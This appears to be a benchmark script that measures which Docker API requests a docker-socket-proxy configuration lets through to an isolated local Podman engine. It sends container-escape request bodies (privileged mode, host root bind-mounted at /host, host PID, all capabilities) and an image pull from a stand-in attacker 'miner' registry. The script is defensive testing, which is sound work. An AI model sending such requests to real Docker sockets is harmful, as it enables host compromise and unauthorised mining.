"""What the docker-socket-proxy of compose.yaml lets through: Docker API requests sent through its rules, measured.

compose.yaml puts ``tecnativa/docker-socket-proxy:v0.4.1`` between the agent and the Docker socket. That image is
HAProxy with one rule per environment flag, matching the request's method and path only. No registry is reachable
here, so this script runs Debian's ``haproxy`` with the same frontend rules (those of the image's haproxy.cfg at the
v0.4.1 tag, Apache-2.0, Tecnativa) and the flags compose.yaml sets, in front of a Podman service with storage of its
own, and sends the agent's own requests and an attacker's. Each line: what was sent, the proxy's answer, and what
the engine made of it.

Run: ``.venv/bin/python bench/socket_proxy.py`` (needs haproxy, podman, runc, busybox-static). Nothing is
published: the proxy listens on loopback, the containers it lets through are created, started, inspected and removed.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
from flareport_cli.localredis import end_process, free_port
from fptest.e2e_podman import IsolatedPodman

# The flags compose.yaml gives the proxy (the image's defaults for the others: EVENTS, PING, VERSION on; rest off).
FLAGS = {"CONTAINERS": 1, "EVENTS": 1, "NETWORKS": 1, "IMAGES": 1, "POST": 1, "PING": 1, "VERSION": 1, "INFO": 1}
ALL_FLAGS = [
    *("ALLOW_RESTARTS", "ALLOW_START", "ALLOW_STOP", "AUTH", "BUILD", "COMMIT", "CONFIGS", "CONTAINERS"),
    *("DISTRIBUTION", "EVENTS", "EXEC", "GRPC", "IMAGES", "INFO", "NETWORKS", "NODES", "PING", "PLUGINS", "POST"),
    *("SECRETS", "SERVICES", "SESSION", "SWARM", "SYSTEM", "TASKS", "VERSION", "VOLUMES"),
]
# The frontend of the image's haproxy.cfg (v0.4.1): a GET or POST=1, then one path prefix per flag, else deny.
_PREFIXES = {
    "AUTH": "auth", "BUILD": "build", "COMMIT": "commit", "CONFIGS": "configs", "CONTAINERS": "containers",
    "DISTRIBUTION": "distribution", "EVENTS": "events", "EXEC": "exec", "GRPC": "grpc", "IMAGES": "images",
    "INFO": "info", "NETWORKS": "networks", "NODES": "nodes", "PING": "_ping", "PLUGINS": "plugins",
    "SECRETS": "secrets", "SERVICES": "services", "SESSION": "session", "SWARM": "swarm", "SYSTEM": "system",
    "TASKS": "tasks", "VERSION": "version", "VOLUMES": "volumes",
}  # fmt: skip


def haproxy_cfg(socket_path: Path, port: int) -> str:
    rules = [
        r"    http-request allow if { path,url_dec -m reg -i ^(/v[\d\.]+)?/containers/[a-zA-Z0-9_.-]+/((stop)|(restart)|(kill)) } { env(ALLOW_RESTARTS) -m bool }",  # noqa: E501
        r"    http-request allow if { path,url_dec -m reg -i ^(/v[\d\.]+)?/containers/[a-zA-Z0-9_.-]+/start } { env(ALLOW_START) -m bool }",  # noqa: E501
        r"    http-request allow if { path,url_dec -m reg -i ^(/v[\d\.]+)?/containers/[a-zA-Z0-9_.-]+/stop } { env(ALLOW_STOP) -m bool }",  # noqa: E501
    ]
    for flag, prefix in _PREFIXES.items():
        path = r"^(/v[\d\.]+)?/" + prefix
        rules.append(f"    http-request allow if {{ path,url_dec -m reg -i {path} }} {{ env({flag}) -m bool }}")
    return "\n".join(
        [
            "global",
            "    maxconn 200",
            "defaults",
            "    mode http",
            "    timeout connect 10s",
            "    timeout client 60s",
            "    timeout server 60s",
            "backend dockerbackend",
            f"    server dockersocket {socket_path}",
            "frontend dockerfrontend",
            f"    bind 127.0.0.1:{port}",
            "    http-request deny unless METH_GET || { env(POST) -m bool }",
            *rules,
            "    http-request deny",
            "    default_backend dockerbackend",
            "",
        ]
    )


def call(base: str, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(base + path, data=data, method=method)  # noqa: S310 - loopback proxy
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=60) as response:  # noqa: S310
            raw = response.read()
            try:
                return response.status, json.loads(raw) if raw.strip() else None
            except ValueError:
                return response.status, raw.decode(errors="replace")[:80]
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")[:80]
    except urllib.error.URLError as error:
        return 0, str(error.reason)


def main() -> int:
    for tool in ("haproxy", "podman", "runc"):
        if shutil.which(tool) is None:
            print(f"{tool} not found (apt-get install -y haproxy podman runc busybox-static)", file=sys.stderr)
            return 2
    with tempfile.TemporaryDirectory(prefix="fp-sockproxy-") as tmp:
        engine = IsolatedPodman(Path(tmp) / "podman")
        engine.start()
        proxy: subprocess.Popen[bytes] | None = None
        try:
            image = engine.build_busybox_image()
            port = free_port()
            cfg = Path(tmp) / "haproxy.cfg"
            cfg.write_text(haproxy_cfg(engine.socket_path, port))
            env = {flag: str(FLAGS.get(flag, 0)) for flag in ALL_FLAGS}
            proxy = subprocess.Popen(["haproxy", "-db", "-f", str(cfg)], env={"PATH": "/usr/sbin:/usr/bin", **env})
            base = f"http://127.0.0.1:{port}/v1.41"
            deadline = time.monotonic() + 20
            while call(base, "GET", "/_ping")[0] != 200:
                if time.monotonic() > deadline:
                    raise RuntimeError("haproxy did not answer /_ping")
                time.sleep(0.1)
            print(f"proxy flags on: {', '.join(sorted(FLAGS))} (as compose.yaml); every other flag 0")
            print(f"{'request':<74} {'proxy':>5}  engine")
            report(base, image)
        finally:
            end_process(proxy)
            engine.remove_all()
            engine.close()
    return 0


def report(base: str, image: str) -> None:
    def line(what: str, status: int, outcome: str) -> None:
        print(f"{what:<74} {status:>5}  {outcome}")

    cloudflared = {"Image": image, "Cmd": ["tunnel", "--no-autoupdate", "run"], "Env": ["TUNNEL_TOKEN=x"]}
    status, made = call(base, "POST", "/containers/create?name=fp-cloudflared", cloudflared)
    line("POST /containers/create  the agent's cloudflared", status, "created" if status == 201 else str(made))
    root_mount = {"Type": "bind", "Source": "/", "Target": "/host"}
    attacks: list[tuple[str, dict[str, Any]]] = [
        ("privileged, host / bind-mounted at /host", {"Privileged": True, "Binds": ["/:/host"]}),
        ("host / as a Mounts entry, host PID namespace", {"Mounts": [root_mount], "PidMode": "host"}),
        ("CapAdd ALL, host network, no mounts at all", {"CapAdd": ["ALL"], "NetworkMode": "host"}),
    ]
    for index, (what, host_config) in enumerate(attacks):
        body: dict[str, Any] = {"Image": image, "Entrypoint": ["sh", "-c", "cat /host/etc/hostname; sleep 30"]}
        body["HostConfig"] = host_config
        status, made = call(base, "POST", f"/containers/create?name=fp-attack-{index}", body)
        outcome = str(made)
        if status == 201:
            started, _ = call(base, "POST", f"/containers/{made['Id']}/start")
            _, info = call(base, "GET", f"/containers/{made['Id']}/json")
            hc = info["HostConfig"]
            caps = hc.get("CapAdd") or []
            outcome = (
                f"created, start {started}: Privileged={hc.get('Privileged')} Binds={hc.get('Binds')} "
                f"PidMode={hc.get('PidMode') or '-'} CapAdd={f'{len(caps)} capabilities' if caps else '-'} "
                f"NetworkMode={hc.get('NetworkMode')}"
            )
            if hc.get("Binds"):
                outcome += f"; reads the host's /etc/hostname: {reads_host_file(base, made['Id'])}"
        line(f"POST /containers/create  {what}", status, outcome)
    status, made = call(base, "POST", "/containers/fp-attack-0/exec", {"Cmd": ["id"]})
    line("POST /containers/{id}/exec  (EXEC=0; under /containers)", status, "exec created" if status == 201 else "-")
    if status == 201:
        status, _ = call(base, "POST", f"/exec/{made['Id']}/start", {"Detach": True})
        line("POST /exec/{id}/start  (EXEC=0)", status, "refused by the proxy" if status == 403 else "ran")
    status, made = call(base, "POST", "/volumes/create", {"Name": "fp-x"})
    line("POST /volumes/create  (VOLUMES=0)", status, "refused by the proxy" if status == 403 else str(made))
    status, made = call(base, "POST", "/images/create?fromImage=127.0.0.1:9/attacker/miner&tag=1")
    line("POST /images/create  another image (IMAGES=1)", status, "passed to the engine" if status != 403 else "-")


def reads_host_file(base: str, container_id: str) -> bool:
    """Whether the container's output shows this host's /etc/hostname (its first command prints it)."""
    wanted = Path("/etc/hostname").read_text().strip()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        request = urllib.request.Request(f"{base}/containers/{container_id}/logs?stdout=1&stderr=1")  # noqa: S310
        with urllib.request.urlopen(request, timeout=10) as response:  # noqa: S310
            if wanted.encode() in response.read():
                return True
        time.sleep(0.2)
    return False


if __name__ == "__main__":
    raise SystemExit(main())
